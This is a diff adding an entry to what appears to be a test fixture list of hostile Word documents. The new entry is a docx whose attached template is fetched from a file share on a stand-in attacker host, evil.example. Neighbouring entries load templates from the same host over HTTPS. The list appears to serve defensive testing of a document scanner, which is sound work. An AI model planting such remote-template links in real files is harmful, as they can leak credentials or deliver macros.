@@ -74,6 +74,10 @@ export const hostileDocuments: SampleFile[] = [
     kind: 'docx',
     relations: one('rId8', 'attachedTemplate', 'https://evil.example/t.dotm', external),
   }),
+  made('a template from a share', elsewhere, {
+    kind: 'docx',
+    relations: one('rId8', 'attachedTemplate', 'file://///evil.example/t.dotm', external),
+  }),
   made('a template behind a quoted bracket', elsewhere, {
     kind: 'docx',
     relations: one('rId8', 'attachedTemplate', 'https://evil.example/?a>b', external),
